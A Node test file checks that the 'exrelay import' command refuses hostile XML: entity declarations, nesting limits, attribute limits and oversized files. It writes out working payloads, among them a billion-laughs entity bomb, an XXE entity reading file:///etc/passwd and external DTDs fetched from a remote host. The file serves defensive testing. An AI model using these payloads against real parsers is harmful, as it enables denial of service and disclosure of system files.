// Hostile XML through `exrelay import`, as a customer's file would arrive: declarations that
// expand or fetch entities are refused, nesting, tags and attributes have limits, and a file
// far larger than any export is refused before it is read (peak memory measured).
import { after, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCli, REPO_ROOT } from '../helpers/cli.js';
import { CLIXML_LIMITS } from '../../src/importers/clixml.js';
import { writeBigClixml } from './big-clixml.js';

const BASE = readFileSync(join(REPO_ROOT, 'fixtures/importers/clixml/remote-deserialized.xml'), 'utf8');
const ANCHOR = '<S N="Banner"></S>';

/** The fixture with `xml` put where its first connector's Banner is (line 12). */
function withBanner(xml: string): string {
  assert.ok(BASE.includes(ANCHOR));
  return BASE.replace(ANCHOR, xml);
}

/** `exrelay import` with the peak resident memory of the process, in MB. */
async function importMeasured(file: string, cwd: string): Promise<{ exitCode: number | null; stdout: string; stderr: string; peakMb: number }> {
  const rssFile = join(cwd, `rss-${Date.now()}`);
  // NODE_OPTIONS drops double quotes: the probe module uses single ones.
  const probe = "data:text/javascript,import{writeFileSync}from'node:fs';process.on('exit',()=>writeFileSync(process.env.RSS_OUT,String(process.resourceUsage().maxRSS)))";
  const r = await runCli(['import', file], { cwd, env: { RSS_OUT: rssFile, NODE_OPTIONS: `--import=${probe}` } });
  return { ...r, peakMb: Number(readFileSync(rssFile, 'utf8')) / 1024 };
}

function oneLine(stderr: string, file: string): string {
  const lines = stderr.split('\n').filter((l) => !l.startsWith('exrelay: warning:'));
  assert.equal(lines.length, 2, stderr.slice(0, 500));
  assert.equal(lines[1], '');
  assert.ok(lines[0]?.startsWith(`exrelay: ${file}:`), lines[0]);
  return lines[0] as string;
}

describe('hostile XML', () => {
  const dir = mkdtempSync(join(tmpdir(), 'exrelay-xml-'));
  after(() => rmSync(dir, { recursive: true, force: true }));
  const write = (name: string, text: string | Buffer): string => { writeFileSync(join(dir, name), text); return name; };

  it('DOCTYPE and entity declarations are refused: billion laughs, external and parameter entities, in UTF-8 and UTF-16', async () => {
    const laughs = ['<!ENTITY a "aaaaaaaaaa">'];
    for (let i = 1; i < 10; i++) laughs.push(`<!ENTITY ${'a'.repeat(i + 1)} "${`&${'a'.repeat(i)};`.repeat(10)}">`);
    const cases: Array<[string, string, number]> = [
      ['laughs.xml', `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${laughs.join('\n')}\n]>\n${withBanner('<S N="Banner">&aaaaaaaaaa;</S>')}`, 2],
      ['xxe.xml', `<?xml version="1.0"?>\n<!DOCTYPE x [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n${withBanner('<S N="Banner">&xxe;</S>')}`, 2],
      ['xxe-public.xml', `<!DOCTYPE Objs PUBLIC "-//x//y" "http://192.0.2.1/evil.dtd">\n${BASE}`, 1],
      ['parameter.xml', `<!DOCTYPE x [ <!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p; ]>\n${BASE}`, 1],
      // A declaration inside the document, after the root element has started.
      ['inner.xml', withBanner('<!ENTITY inner "x"><S N="Banner">&inner;</S>'), 12],
    ];
    for (const [name, text, line] of cases) {
      for (const encoding of ['utf-8', 'utf-16le'] as const) {
        const file = write(`${encoding}-${name}`, encoding === 'utf-8' ? text : Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text.replace(/\n/g, '\r\n'), 'utf16le')]));
        const r = await runCli(['import', file], { cwd: dir });
        assert.equal(r.exitCode, 2, `${file}: ${r.stderr}`);
        assert.equal(r.stdout, '');
        assert.equal(oneLine(r.stderr, file), `exrelay: ${file}:${line}: XML with a DOCTYPE or entity declarations is refused (entity expansion is not allowed in an export)`);
        assert.ok(!r.stderr.includes('root:'), 'nothing of /etc/passwd is read');
      }
    }
  });

  it('an entity that was never declared, and a character reference beyond Unicode, are refused with their line', async () => {
    const undeclared = write('undeclared.xml', withBanner('<S N="Banner">&xxe;</S>'));
    const r1 = await runCli(['import', undeclared], { cwd: dir });
    assert.equal(r1.exitCode, 2);
    assert.equal(oneLine(r1.stderr, undeclared), `exrelay: ${undeclared}:12: undefined XML entity &xxe;`);
    const beyond = write('beyond.xml', withBanner('<S N="Banner">&#x110000;</S>'));
    const r2 = await runCli(['import', beyond], { cwd: dir });
    assert.equal(r2.exitCode, 2);
    assert.equal(oneLine(r2.stderr, beyond), `exrelay: ${beyond}:12: XML character reference &#x110000; is not a Unicode character`);
  });

  it(`nesting: a value ${CLIXML_LIMITS.maxDepth / 2 - 10} objects deep imports; one past ${CLIXML_LIMITS.maxDepth} elements is refused at its line`, async () => {
    // Each nested object is two elements (<Obj><LST>); the connector itself sits 3 deep.
    const nested = (depth: number): string => `<Obj N="Deep" RefId="d"><LST>${'<Obj RefId="e">\n<LST>'.repeat(depth)}<S>leaf</S>${'</LST></Obj>'.repeat(depth)}</LST></Obj>`;
    const ok = write('nested-ok.xml', withBanner(`${ANCHOR}${nested(CLIXML_LIMITS.maxDepth / 2 - 10)}`));
    const imported = await runCli(['import', ok], { cwd: dir });
    assert.equal(imported.exitCode, 0, imported.stderr);
    const snapshot = JSON.parse(imported.stdout) as { connectors: Array<{ extra?: Record<string, unknown> }> };
    assert.match(JSON.stringify(snapshot.connectors[0]?.extra?.Deep), /"leaf"/);

    const deep = write('nested-deep.xml', withBanner(`${ANCHOR}${nested(20000)}`));
    const refused = await runCli(['import', deep], { cwd: dir });
    assert.equal(refused.exitCode, 2);
    // Objs, Obj, Props, Deep's Obj and LST, then per level an <Obj> and (a line lower) an <LST>:
    // element 257 is the <LST> of level 126, on line 12 + 126.
    assert.equal(oneLine(refused.stderr, deep), `exrelay: ${deep}:${12 + 126}: XML nested more than ${CLIXML_LIMITS.maxDepth} elements deep (an export nests a few levels)`);
  });

  it('attributes: a tag over 64 KB, over 64 attributes, or with an unterminated or valueless attribute is refused', async () => {
    const attrs = (n: number): string => Array.from({ length: n }, (_, i) => `a${i}="${i}"`).join(' ');
    const imported = await runCli(['import', write('attrs-64.xml', withBanner(`<S N="Banner" ${attrs(CLIXML_LIMITS.maxAttributes - 1)}>hello</S>`))], { cwd: dir });
    assert.equal(imported.exitCode, 0, imported.stderr);
    assert.equal((JSON.parse(imported.stdout) as { connectors: Array<{ banner: string | null }> }).connectors[0]?.banner, 'hello');
    const cases: Array<[string, string, string]> = [
      ['attrs-65.xml', `<S N="Banner" ${attrs(CLIXML_LIMITS.maxAttributes)}>x</S>`, `malformed XML tag: more than ${CLIXML_LIMITS.maxAttributes} attributes`],
      ['long-tag.xml', `<S N="Banner" a="${'x'.repeat(CLIXML_LIMITS.maxTagChars)}">x</S>`, 'XML tag longer than 64 KB'],
      ['unterminated.xml', `<S N="Banner" a="${'x'.repeat(50000)}>x</S>`, 'malformed XML tag: attribute a has no closing quote'],
      ['valueless.xml', `<S N="Banner" ${'x'.repeat(50000)}>x</S>`, `malformed XML tag: attribute ${'x'.repeat(40)} has no value`],
    ];
    for (const [name, xml, message] of cases) {
      const file = write(name, withBanner(xml));
      const r = await runCli(['import', file], { cwd: dir });
      assert.equal(r.exitCode, 2, `${name}: ${r.stderr.slice(0, 300)}`);
      assert.equal(oneLine(r.stderr, file), `exrelay: ${file}:12: ${message}`);
    }
  });

  it('a 1 GB file is refused before it is read (peak memory stays small); a 16 MB export imports in bounded memory', async () => {
    const huge = 'huge.xml';
    writeFileSync(join(dir, huge), BASE);
    truncateSync(join(dir, huge), 1024 * 1024 * 1024); // sparse: a gigabyte that costs no disk
    const refused = await importMeasured(huge, dir);
    assert.equal(refused.exitCode, 2);
    assert.equal(refused.stderr, `exrelay: ${huge}: refused: 1024 MB is more than the 256 MB an input may have (a whole estate's export is tens of MB; export fewer objects per file)\n`);
    assert.ok(refused.peakMb < 200, `peak ${refused.peakMb.toFixed(0)} MB`);
    rmSync(join(dir, huge));

    const big = 'big.xml';
    const connectors = writeBigClixml(join(dir, big), 16 * 1024 * 1024);
    const imported = await importMeasured(big, dir);
    assert.equal(imported.exitCode, 0, imported.stderr.slice(0, 500));
    const snapshot = JSON.parse(imported.stdout) as { connectors: Array<{ remoteIPRanges: unknown[] }> };
    assert.equal(snapshot.connectors.length, connectors);
    assert.equal(snapshot.connectors.reduce((n, c) => n + c.remoteIPRanges.length, 0), connectors * 1000);
    const sizeMb = statSync(join(dir, big)).size / (1024 * 1024);
    assert.ok(imported.peakMb < 1024, `peak ${imported.peakMb.toFixed(0)} MB for ${sizeMb.toFixed(0)} MB of CLIXML`);
  });
});
